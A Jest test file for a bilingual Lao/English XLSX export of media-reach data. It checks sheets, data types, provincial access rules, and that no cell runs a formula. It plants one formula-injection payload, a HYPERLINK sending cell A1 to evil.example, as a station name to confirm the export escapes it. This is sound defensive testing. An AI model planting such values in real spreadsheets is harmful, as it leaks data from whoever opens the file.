/**
 * `/api/reach/export.xlsx` downloaded from the running server and read back with exceljs: its
 * sheets, their bilingual frozen header rows, numbers as numbers, days as dates, Lao intact, no
 * formula anywhere (a station named like one stays text), and who may download it.
 */
import { beforeAll, describe, expect, it } from '@jest/globals'
import ExcelJS from 'exceljs'
import { adminLogin, api, server, staffLogin } from '../helpers/http'

const run = Date.now()
const EVIL = `=HYPERLINK("https://evil.example/?d="&A1,"Open ${run}")`
let admin: string
let book: ExcelJS.Workbook

async function download(query: string, token?: string) {
  return fetch(`${server().url}/api/reach/export.xlsx${query}`, {
    headers: token ? { Authorization: `JWT ${token}` } : {},
  })
}

async function read(res: Response): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(await res.arrayBuffer())
  return workbook
}

/** A sheet's rows as arrays of cell values, header first. */
const rowsOf = (sheet: ExcelJS.Worksheet) => {
  const rows: ExcelJS.CellValue[][] = []
  sheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)))
  return rows
}

beforeAll(async () => {
  admin = await adminLogin()
  const province = (
    await api<{ docs: { id: number }[] }>('/api/provinces?where[code][equals]=LA-XE')
  ).body.docs[0].id
  const station = await api('/api/stations', {
    method: 'POST',
    token: admin,
    body: { name: EVIL, kind: 'radio', province },
  })
  expect(station.status).toBe(201)
  const res = await download('?period=2020-H1', admin)
  expect(res.status).toBe(200)
  expect(res.headers.get('content-type')).toBe(
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  )
  expect(res.headers.get('content-disposition')).toBe(
    'attachment; filename="siang-reach-2020-H1.xlsx"',
  )
  expect(res.headers.get('cache-control')).toContain('no-store')
  book = await read(res)
}, 60_000)

describe('the half-year workbook', () => {
  it('has one sheet for each part, each with a frozen header row in Lao and English', () => {
    expect(book.worksheets.map((s) => s.name)).toEqual([
      'Period ໄລຍະ',
      'Indicators ຕົວຊີ້ວັດ',
      'By province ຕາມແຂວງ',
      'Broadcasts ການອອກອາກາດ',
      'Reach ການເຂົ້າເຖິງ',
      'Sex and age ເພດ ແລະ ອາຍຸ',
      'Counts by day ນັບຕາມມື້',
      'Counts by item ນັບຕາມສື່',
      'Quizzes ແບບທົດສອບ',
    ])
    for (const sheet of book.worksheets) {
      expect({ sheet: sheet.name, view: sheet.views[0] }).toMatchObject({
        sheet: sheet.name,
        view: { state: 'frozen', ySplit: 1 },
      })
      expect(String(sheet.getCell('A1').value)).toMatch(/^\p{Script=Lao}.* \/ [A-Z]/u)
    }
  })

  it('keeps numbers as numbers, shares as per cents, days as dates, and Lao as written', () => {
    const [header, ...indicators] = rowsOf(book.getWorksheet('Indicators ຕົວຊີ້ວັດ')!)
    expect(header.slice(0, 2)).toEqual(['ລະຫັດ / Slug', 'ຕົວຊີ້ວັດ / Indicator'])
    const people = indicators.find((r) => r[0] === 'people-reached')!
    expect(people[1]).toBe('ຈຳນວນຄົນທີ່ເຂົ້າເຖິງ')
    expect(typeof people[4]).toBe('number') // target
    expect(typeof people[5]).toBe('number') // actual
    const sheet = book.getWorksheet('Indicators ຕົວຊີ້ວັດ')!
    expect(sheet.getColumn(7).numFmt).toBe('0.0%')
    expect(String(people[7])).toMatch(/ \/ (On track|At risk|Off track)$/)

    const days = rowsOf(book.getWorksheet('Counts by day ນັບຕາມມື້')!).slice(1)
    expect(days.length).toBeGreaterThan(0)
    expect(days[0][0]).toBeInstanceOf(Date)
    expect((days[0][0] as Date).toISOString()).toMatch(/^2020-0[1-6]-\d\dT00:00:00.000Z$/)
    expect(typeof days[0][2]).toBe('number')

    const period = rowsOf(book.getWorksheet('Period ໄລຍະ')!)[1]
    expect(period[0]).toBe('2020-H1')
    expect((period[1] as Date).toISOString()).toBe('2020-01-01T00:00:00.000Z')
    // The half-year is over, and the day the workbook was made is a date.
    expect(period[4]).toBe(1)
    expect(period[5]).toBeInstanceOf(Date)

    // Every province's indicators: 18 provinces, seven rows each (the views, counted nationally
    // only, have no figure by province), Savannakhet's people on track.
    // (Other files' indicators, named `…-<run>`, may share the server.)
    const byProvince = rowsOf(book.getWorksheet('By province ຕາມແຂວງ')!)
      .slice(1)
      .filter((r) => !/-\d+$/.test(String(r[2])))
    expect(byProvince).toHaveLength(18 * 7)
    expect(byProvince.some((r) => r[2] === 'online-views')).toBe(false)
    const svPeople = byProvince.find((r) => r[0] === 'LA-SV' && r[2] === 'people-reached')!
    expect(svPeople[1]).toBe('ສະຫວັນນະເຂດ')
    expect(svPeople[4]).toBe('ຄົນ / People')
    expect(typeof svPeople[6]).toBe('number') // target
    expect(typeof svPeople[7]).toBe('number') // actual

    // 2020-H1's reports were all made before the sex-by-age table: their old bands, labelled.
    const sexAge = rowsOf(book.getWorksheet('Sex and age ເພດ ແລະ ອາຍຸ')!).slice(1)
    expect(sexAge).toHaveLength(6 + 4)
    expect(sexAge[0].slice(0, 2)).toEqual([
      'ຕາຕະລາງເພດ × ອາຍຸ (0 ບົດລາຍງານ) / Sex × age table (0 reports)',
      '0–14 ປີ / 0–14',
    ])
    const allOld = sexAge[9]
    expect(String(allOld[0])).toMatch(
      /^ບົດລາຍງານທີ່ເຮັດກ່ອນມີຕາຕະລາງ \(3\).* \/ Reports made before the table \(3\)/,
    )
    // Vientiane Capital, Savannakhet and Luang Prabang counted: 1450 + 860 + 512 women.
    expect(allOld.slice(2, 6)).toEqual([2822, 2382, 20, 5224])

    const reach = rowsOf(book.getWorksheet('Reach ການເຂົ້າເຖິງ')!).slice(1)
    expect(reach).toHaveLength(18)
    expect(reach.find((r) => r[0] === 'LA-VT')?.[1]).toBe('ນະຄອນຫຼວງວຽງຈັນ')
  })

  it('runs no formula: a station named like one is text, as in the CSV', () => {
    const stations = rowsOf(book.getWorksheet('Broadcasts ການອອກອາກາດ')!)
    expect(stations.some((r) => r[1] === `'${EVIL}`)).toBe(true)
    for (const sheet of book.worksheets)
      sheet.eachRow((row) =>
        row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
      )
  })

  it('is for staff only, and a provincial editor gets its own provinces', async () => {
    expect((await download('?period=2020-H1')).status).toBe(401)
    const provincial = await staffLogin(admin, 'provincial-editor', `book-${run}`, {
      provinces: [
        (await api<{ docs: { id: number }[] }>('/api/provinces?where[code][equals]=LA-SV')).body
          .docs[0].id,
      ],
    })
    const own = await read(await download('?period=2020-H1', provincial))
    const reach = rowsOf(own.getWorksheet('Reach ການເຂົ້າເຖິງ')!).slice(1)
    expect(reach.map((r) => r[0])).toEqual(['LA-SV'])
    // The plan by province is its own province's, and its indicators are Savannakhet's targets,
    // not the country's.
    const byProvince = rowsOf(own.getWorksheet('By province ຕາມແຂວງ')!).slice(1)
    expect(new Set(byProvince.map((r) => r[0]))).toEqual(new Set(['LA-SV']))
    const people = (sheet: ExcelJS.Worksheet, at: number) =>
      rowsOf(sheet).find((r) => r[at] === 'people-reached')!
    const ownPeople = people(own.getWorksheet('Indicators ຕົວຊີ້ວັດ')!, 0)
    const svPeople = people(own.getWorksheet('By province ຕາມແຂວງ')!, 2)
    const national = people(book.getWorksheet('Indicators ຕົວຊີ້ວັດ')!, 0)
    expect(ownPeople[4]).toBe(svPeople[6])
    expect(ownPeople[4]).not.toBe(national[4])
    expect((await download('?period=2020-H1&province=LA-VT', provincial)).status).toBe(403)
  })
})
